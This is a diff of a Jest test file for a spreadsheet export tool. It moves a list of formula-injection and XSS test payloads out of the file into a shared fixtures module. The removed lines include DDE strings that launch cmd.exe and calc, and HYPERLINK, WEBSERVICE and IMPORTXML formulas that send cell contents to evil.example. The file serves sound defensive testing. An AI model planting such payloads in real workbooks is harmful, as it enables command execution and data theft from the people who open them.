@@ -12,54 +12,10 @@ import JSZip from "jszip";
 import { toBuffer } from "../../src/workbook/xlsx";
 import { buildWorkbook } from "../workbook/support/build";
 import { runCli } from "./support";
+import { CELL_ONLY, expectSafe, PAYLOADS } from "../fixtures/payloads";
 import { seed001PlanRows } from "../fixtures/seeds";
 
 jest.setTimeout(60_000);
-
-/** 24 payloads: formula starts (= + - @), DDE, functions that reach the network, markup. */
-const PAYLOADS = [
-  "=1+1",
-  "+1+1",
-  "-1+1",
-  "@SUM(1,1)",
-  "=cmd|' /C calc'!A0",
-  "+cmd|' /C notepad'!'A1'",
-  "-2+3+cmd|' /C calc'!A0",
-  "@cmd|'/c calc'!A0",
-  '=DDE("cmd";"/C calc";"!A0")',
-  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
-  '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
-  '=WEBSERVICE("http://evil.example/?"&A1)',
-  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
-  '=INDIRECT("ITA_Settings!B2")',
-  "=+1",
-  "=-1",
-  "{=1+1}",
-  '="="&1',
-  "＝1+1",
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "=1+1 ;=cmd|'/C calc'!A0",
-  "'=1+1",
-  "=ลบ(1)",
-];
-/** Only in cells: a text export splits on tabs and line breaks. */
-const CELL_ONLY = ["\t=1+1", "\r=1+1", "\n@SUM(1)"];
-
-/**
- * What a payload may become: the same text (trimmed), or for markup the importer's reading of an
- * HTML fragment, which keeps the words and drops the tags: never a tag.
- */
-function expectSafe(value: unknown, payload: string): void {
-  if (payload.startsWith("<")) {
-    expect([payload, typeof value === "string" ? /[<>]/.test(value) : value]).toEqual([
-      payload,
-      value === null ? null : false,
-    ]);
-    return;
-  }
-  expect([payload, typeof value === "string" ? value.trim() : value]).toEqual([payload, payload.trim()]);
-}
 
 let dir: string;
 beforeEach(() => {
